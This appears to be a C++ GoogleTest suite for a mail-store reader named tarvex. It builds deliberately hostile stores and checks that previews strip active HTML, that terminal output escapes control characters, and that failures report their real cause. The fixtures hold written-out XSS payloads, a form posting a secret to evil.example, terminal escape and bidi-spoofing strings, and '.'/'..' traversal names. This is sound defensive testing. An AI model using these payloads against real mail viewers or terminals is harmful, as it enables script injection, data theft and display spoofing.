// Hostile stores of both layouts through the `tarvex` program: nothing the store holds runs in
// a page we write or reaches the terminal as a control sequence, no two names share a file,
// and a failure names its real cause.

#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <fstream>
#include <nlohmann/json.hpp>
#include <sstream>

#include "scenario_run.h"
#include "tools/edbforge/exchange/store_builder.h"

namespace tarvex::testing {
namespace {

namespace ef = edbforge;
using nlohmann::json;

constexpr char16_t kHostileHtml[] =
    u"<html><head><meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/r\">"
    u"<base href=\"http://evil.example/\"><link rel=\"stylesheet\" "
    u"href=\"http://evil.example/s.css\">"
    u"<style>body{background:url(http://evil.example/bg.png)} .kept{color:green}</style></head>"
    u"<body onload=\"alert(1)\"><script>alert(4)</script><img src=x onerror=alert(5)>"
    u"<p class=\"kept\" style=\"color:red;background-image:url('http://evil.example/p.png')\">"
    u"Kept paragraph</p><a href=\"javascript:alert(6)\">script link</a> "
    u"<a href=\"https://example.org/page\">real link</a>"
    u"<img src=\"http://tracker.example/pixel.gif\" width=1 height=1>"
    u"<img src=\"cid:logo@example\"><img src=\"data:image/png;base64,iVBORw0KGgo=\">"
    u"<table border=\"1\"><tr><td>Cell</td></tr></table>"
    u"<form action=\"http://evil.example/steal\"><input name=p value=secret>Form text</form>"
    u"<iframe src=\"http://evil.example/frame\"></iframe>"
    u"<object data=\"http://evil.example/o.swf\"></object>"
    u"<svg onload=\"alert(7)\"><script>alert(8)</script></svg></body></html>";

constexpr char16_t kForgingFolder[] = u"x\n      Forged  [IPF.Note] 99 items";
constexpr char16_t kEscapingFolder[] = u"\x1b[2J\x1b]0;owned\x07Screen";
constexpr char16_t kForgingSubject[] = u"Hello\r\n1      mail         Forged row \u202eexe.txt";
constexpr char16_t kBidiSender[] = u"Eve \u202egnp.exe\u009b31m";
constexpr char16_t kRecordMarker[] = u"X-Damage-Marker: 7f3a9c";

ef::StoreDescription HostileStore(ef::StoreLayout layout) {
  ef::StoreDescription store;
  store.layout = layout;
  if (layout == ef::StoreLayout::k2010) {
    store.format_revision = 20;
    store.page_size = 8192;
  }
  ef::FolderDescription& top =
      store.AddMailbox(u"Eve", u"/o=Org/cn=eve").AddFolder(u"Top of Information Store");
  ef::FolderDescription& inbox = top.AddFolder(u"Inbox", u"IPF.Note");
  ef::ItemDescription& mail = inbox.AddItem(u"IPM.Note");
  mail.Set(u"Se1d", ef::Text(kForgingSubject))
      .Set(u"S42", ef::Text(kBidiSender))
      .Set(u"Te06", ef::Time(129070000000000000))
      .Set(u"N1013", ef::Text(kHostileHtml));
  mail.AddAttachment(u".", TextBytes("first"));
  mail.AddAttachment(u"..", TextBytes("second"));
  mail.AddAttachment(u"header.html", TextBytes("attached header"));
  top.AddFolder(kForgingFolder, u"IPF.Note");
  top.AddFolder(kEscapingFolder, u"IPF.Note");
  top.AddFolder(u".", u"IPF.Note").AddItem(u"IPM.Note").Set(u"Se1d", ef::Text(u"in dot"));
  top.AddFolder(u"..", u"IPF.Note").AddItem(u"IPM.Note").Set(u"Se1d", ef::Text(u"in dot dot"));
  // Its record alone holds the marker, so that the page to damage can be found.
  top.AddFolder(u"Damaged", u"IPF.Note")
      .AddItem(u"IPM.Note")
      .Set(u"Se1d", ef::Text(u"lost"))
      .Set(u"S7d", ef::Text(kRecordMarker));
  return store;
}

std::vector<std::string> Lines(const std::string& text) {
  std::vector<std::string> lines;
  std::istringstream in(text);
  for (std::string line; std::getline(in, line);) lines.push_back(line);
  return lines;
}

// The bytes a terminal would act on: C0 controls but the line feed, DEL, and the UTF-8 of
// C1 controls and of the bidirectional overrides.
bool HoldsTerminalControls(const std::string& text) {
  for (std::size_t i = 0; i < text.size(); ++i) {
    const auto byte = static_cast<unsigned char>(text[i]);
    if ((byte < 0x20 && byte != '\n') || byte == 0x7F) return true;
    if (byte == 0xC2 && i + 1 < text.size() && static_cast<unsigned char>(text[i + 1]) >= 0x80 &&
        static_cast<unsigned char>(text[i + 1]) <= 0x9F) {
      return true;
    }
    if (text.compare(i, 3, "\xE2\x80\xAE") == 0) return true;
  }
  return false;
}

class HostileStoreTest : public ::testing::TestWithParam<ef::StoreLayout> {
 protected:
  void SetUp() override {
    database_ = scratch_.path() / "hostile.edb";
    ef::BuildStore(HostileStore(GetParam()), database_);
  }

  ProgramRun Run(const std::vector<std::string>& arguments, const std::string& prefix = "") {
    return RunTarvex(arguments, scratch_.path(), 0, prefix);
  }

  std::string Database() const { return database_.string(); }

  ScratchFolder scratch_;
  std::filesystem::path database_;
};

TEST_P(HostileStoreTest, TerminalShowsControlCharactersEscaped) {
  const ProgramRun tree = Run({"tree", Database()});
  ASSERT_EQ(tree.exit_code, 0) << tree.err;
  EXPECT_FALSE(HoldsTerminalControls(tree.out)) << tree.out;
  EXPECT_FALSE(HoldsTerminalControls(tree.err)) << tree.err;
  const std::vector<std::string> lines = Lines(tree.out);
  const auto forged = std::count_if(lines.begin(), lines.end(), [](const std::string& line) {
    return line.find("Forged") != std::string::npos;
  });
  EXPECT_EQ(forged, 1) << tree.out;
  EXPECT_NE(tree.out.find("x\\n      Forged  [IPF.Note] 99 items  ["), std::string::npos)
      << tree.out;
  EXPECT_NE(tree.out.find("\\x1b[2J\\x1b]0;owned\\x07Screen"), std::string::npos) << tree.out;

  const ProgramRun list = Run({"list", Database(), "Eve/Top of Information Store/Inbox"});
  ASSERT_EQ(list.exit_code, 0) << list.err;
  EXPECT_FALSE(HoldsTerminalControls(list.out)) << list.out;
  EXPECT_EQ(Lines(list.out).size(), 2u) << list.out;  // the heading and the one item
  // The subject's column is cut, but what it holds stays on the item's line.
  EXPECT_NE(list.out.find("Hello\\r\\n1      mail         Forged row"), std::string::npos)
      << list.out;
  EXPECT_NE(list.out.find("Eve \\u202egnp.exe\\u009b31m"), std::string::npos) << list.out;

  // JSON keeps the texts as they are, in escapes a terminal does not act on.
  for (const std::vector<std::string>& command :
       {std::vector<std::string>{"tree", "--json", Database()},
        std::vector<std::string>{"list", "--json", Database(),
                                 "Eve/Top of Information Store/Inbox"},
        std::vector<std::string>{"dump", "--json", Database(), "Folders"}}) {
    const ProgramRun run = Run(command);
    if (command[0] == "dump" && GetParam() == ef::StoreLayout::k2010) continue;
    ASSERT_EQ(run.exit_code, 0) << command[0] << run.err;
    EXPECT_FALSE(HoldsTerminalControls(run.out)) << command[0];
    EXPECT_FALSE(json::parse(run.out, nullptr, false).is_discarded()) << command[0];
  }
  const json items = json::parse(
      Run({"list", "--json", Database(), "Eve/Top of Information Store/Inbox"}).out)["items"];
  ASSERT_EQ(items.size(), 1u);
  EXPECT_EQ(items[0].at("subject").get<std::string>(),
            "Hello\r\n1      mail         Forged row "
            "\xE2\x80\xAE"
            "exe.txt");

  // An error that quotes a name quotes it escaped too.
  const ProgramRun missing = Run({"list", Database(), "Eve/\x1b]0;x\x07"});
  EXPECT_EQ(missing.exit_code, 5);
  EXPECT_FALSE(HoldsTerminalControls(missing.err)) << missing.err;
}

TEST_P(HostileStoreTest, PreviewShowsNoActiveContentAndEmlKeepsTheBody) {
  const std::filesystem::path work = scratch_.path() / "work";
  const ProgramRun show = Run(
      {"show", Database(), "Eve/Top of Information Store/Inbox", "1", "--workdir", work.string()});
  ASSERT_EQ(show.exit_code, 0) << show.err;
  const std::filesystem::path body =
      work / (GetParam() == ef::StoreLayout::k2010 ? "blank.html" : "htmlbody.html");
  const std::string page = FileText(body);
  std::string lower = page;
  std::transform(lower.begin(), lower.end(), lower.begin(),
                 [](unsigned char c) { return static_cast<char>(std::tolower(c)); });
  for (const char* gone :
       {"<script", "alert(", "onload", "onerror", "javascript:", "evil.example", "refresh",
        "<iframe", "<object", "<svg", "<form", "<input", "<base", "<link", "src=\"http"}) {
    EXPECT_EQ(lower.find(gone), std::string::npos) << gone << "\n" << page;
  }
  for (const char* kept : {"Kept paragraph", "color:red", ".kept{color:green}",
                           "[remote image blocked: tracker.example]", "src=\"cid:logo@example\"",
                           "src=\"data:image/png;base64,iVBORw0KGgo=\"", "<table border=\"1\">",
                           "<td>Cell</td>", "Form text", "href=\"https://example.org/page\"",
                           "script link", "Content-Security-Policy"}) {
    EXPECT_NE(page.find(kept), std::string::npos) << kept << "\n" << page;
  }
  // Every page of ours forbids scripts and remote loads as a second wall.
  // The page named after the subject, without its line break and its reordering mark.
  const std::string named_page = "Hello1      mail         Forged row exe.txt.preview.html";
  EXPECT_EQ(show.out, (work / named_page).string() + "\n");
  for (const std::string& own : {std::string("header.html"), named_page}) {
    EXPECT_NE(FileText(work / own)
                  .find(std::string("C\0o\0n\0t\0e\0n\0t\0-\0S\0e\0c\0u\0r\0i\0t\0y", 32)),
              std::string::npos)
        << own;
  }
  // What the store holds is kept beside the page, and a message is written from it.
  std::filesystem::path stored = body;
  stored += ".stored";
  EXPECT_NE(FileText(stored).find("<script>alert(4)</script>"), std::string::npos);
  const std::filesystem::path eml = scratch_.path() / "item.eml";
  const ProgramRun written =
      Run({"eml", Database(), "Eve/Top of Information Store/Inbox", "1", "--out", eml.string()});
  ASSERT_EQ(written.exit_code, 0) << written.err;
  const std::string message = FileText(eml);
  EXPECT_NE(message.find("<script>alert(4)</script>"), std::string::npos) << message;
  EXPECT_NE(message.find("http://tracker.example/pixel.gif"), std::string::npos);

  // "." and ".." are two attachments, and "header.html" is not our header page.
  std::vector<std::string> attachments = {FileText(work / "attachment"),
                                          FileText(work / "attachment (2)")};
  std::sort(attachments.begin(), attachments.end());
  EXPECT_EQ(attachments, (std::vector<std::string>{"first", "second"}));
  EXPECT_EQ(FileText(work / "header (2).html"), "attached header");
  EXPECT_NE(FileText(work / "header.html").find(std::string("<\0t\0a\0b\0l\0e\0", 12)),
            std::string::npos);
}

TEST_P(HostileStoreTest, FoldersWithOneFileNameAreExportedApart) {
  const std::filesystem::path out = scratch_.path() / "export";
  const ProgramRun run =
      Run({"export", "-q", Database(), "--out", out.string(), "--saver", TARVEX_SAVER});
  ASSERT_EQ(run.exit_code, 0) << run.out << run.err;
  const std::filesystem::path top = out / "Eve" / "Top of Information Store";
  const std::string first = FileText(top / "Folder" / "mail.mbox");
  const std::string second = FileText(top / "Folder (2)" / "mail.mbox");
  EXPECT_NE(first.find("in dot"), std::string::npos) << first;
  EXPECT_NE(second.find("in dot"), std::string::npos) << second;
  // One subject each: "in dot" is also the start of "in dot dot".
  EXPECT_NE(first.find("in dot dot") == std::string::npos,
            second.find("in dot dot") == std::string::npos);
}

// The store's copy with the page that holds the marked record overwritten by noise: its
// checksum fails and the record cannot be read, while the folder still lists the item.
std::filesystem::path WithMarkedPageDamaged(const std::filesystem::path& database,
                                            std::uint32_t page_size) {
  std::string bytes = FileText(database);
  const std::u16string marker = kRecordMarker;
  const std::string pattern(reinterpret_cast<const char*>(marker.data()), marker.size() * 2);
  const std::size_t at = bytes.find(pattern);
  if (at == std::string::npos) return {};
  const std::size_t page_start = at / page_size * page_size;
  for (std::size_t i = page_start + 64; i < page_start + page_size; ++i) {
    bytes[i] = static_cast<char>(bytes[i] ^ 0x5A);
  }
  std::filesystem::path damaged = database;
  damaged.replace_filename("damaged.edb");
  std::ofstream(damaged, std::ios::binary) << bytes;
  return damaged;
}

TEST_P(HostileStoreTest, FailuresNameTheirRealCause) {
  // A folder given as the store.
  for (const char* command : {"tree", "info", "tables"}) {
    const ProgramRun run = Run({command, scratch_.path().string()});
    EXPECT_EQ(run.exit_code, 2) << command;
    EXPECT_NE(run.err.find("is a directory"), std::string::npos) << command << run.err;
  }
  // A store without read permission: root reads anything, so then the program runs as nobody.
  const std::filesystem::path locked = scratch_.path() / "locked.edb";
  std::filesystem::copy_file(database_, locked);
  std::filesystem::permissions(locked, std::filesystem::perms::none);
  std::filesystem::permissions(scratch_.path(), std::filesystem::perms::others_exec,
                               std::filesystem::perm_options::add);
  const std::string as_nobody =
      getuid() == 0 ? "setpriv --reuid=65534 --regid=65534 --clear-groups " : "";
  for (const char* command : {"tree", "info", "dump"}) {
    std::vector<std::string> arguments = {command, locked.string()};
    if (std::string_view(command) == "dump") arguments.push_back("Folders");
    const ProgramRun run = Run(arguments, as_nobody);
    EXPECT_EQ(run.exit_code, 2) << command << run.err;
    EXPECT_NE(run.err.find(locked.string() + ": permission denied"), std::string::npos)
        << command << run.err;
    EXPECT_EQ(run.err.find("not an ESE database"), std::string::npos) << command;
  }
  // No temporary folder to be had.
  const ProgramRun no_temp = Run({"tree", Database()}, "TMPDIR=/nonexistent/tarvex ");
  EXPECT_EQ(no_temp.exit_code, 6);
  EXPECT_NE(no_temp.err.find("cannot make the working folder /nonexistent/tarvex: "),
            std::string::npos)
      << no_temp.err;

  // An item whose record cannot be read is not a folder that took no pages.
  const std::filesystem::path damaged =
      WithMarkedPageDamaged(database_, GetParam() == ef::StoreLayout::k2010 ? 8192 : 4096);
  ASSERT_FALSE(damaged.empty());
  const std::filesystem::path work = scratch_.path() / "damaged-work";
  const ProgramRun show = Run({"show", damaged.string(), "Eve/Top of Information Store/Damaged",
                               "1", "--workdir", work.string()});
  if (GetParam() == ef::StoreLayout::kOlder) {
    EXPECT_EQ(show.exit_code, 4) << show.out << show.err;
    EXPECT_NE(show.err.find("could not be read"), std::string::npos) << show.err;
  } else {
    // The 2010 layout lists the item from its header row and shows what that holds, and
    // says that the rest was lost.
    EXPECT_EQ(show.exit_code, 7) << show.err;
  }
  EXPECT_EQ(show.err.find("could not be written"), std::string::npos) << show.err;
  // And a folder that takes no files says why.
  std::filesystem::create_directories(work);
  std::filesystem::permissions(
      work, std::filesystem::perms::owner_read | std::filesystem::perms::owner_exec |
                std::filesystem::perms::others_read | std::filesystem::perms::others_exec);
  std::filesystem::permissions(scratch_.path(), std::filesystem::perms::others_read,
                               std::filesystem::perm_options::add);
  std::filesystem::permissions(database_, std::filesystem::perms::others_read,
                               std::filesystem::perm_options::add);
  const ProgramRun read_only = Run(
      {"show", Database(), "Eve/Top of Information Store/Inbox", "1", "--workdir", work.string()},
      as_nobody);
  EXPECT_EQ(read_only.exit_code, 6) << read_only.err;
  EXPECT_NE(
      read_only.err.find("could not be written into " + work.string() + ": permission denied"),
      std::string::npos)
      << read_only.err;
}

INSTANTIATE_TEST_SUITE_P(BothLayouts, HostileStoreTest,
                         ::testing::Values(ef::StoreLayout::kOlder, ef::StoreLayout::k2010),
                         [](const auto& layout) {
                           return layout.param == ef::StoreLayout::kOlder ? "Older" : "Layout2010";
                         });

}  // namespace
}  // namespace tarvex::testing
